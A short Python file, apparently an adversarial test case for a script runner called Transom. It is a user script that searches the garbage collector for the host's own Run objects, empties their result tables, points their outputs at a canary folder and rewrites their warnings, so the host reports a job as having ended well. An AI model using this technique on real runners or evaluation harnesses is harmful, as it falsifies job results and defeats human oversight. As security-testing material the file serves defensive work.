"""Finds Transom's own objects in its memory, and has them say that the job has ended well."""

import gc
import os

from attack import BAIT, attack, empty_table


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Run" and hasattr(thing, "outputs"):
            for port in ("result_dataset", "result_dataset2"):
                empty_table(os.path.join(thing.outputs, port + ".arrow"))
            thing.outputs = BAIT["canary_folder"]
            thing.warnings = [{"hostile": 1}]
            thing.folder = BAIT["canary_folder"]
    return ""
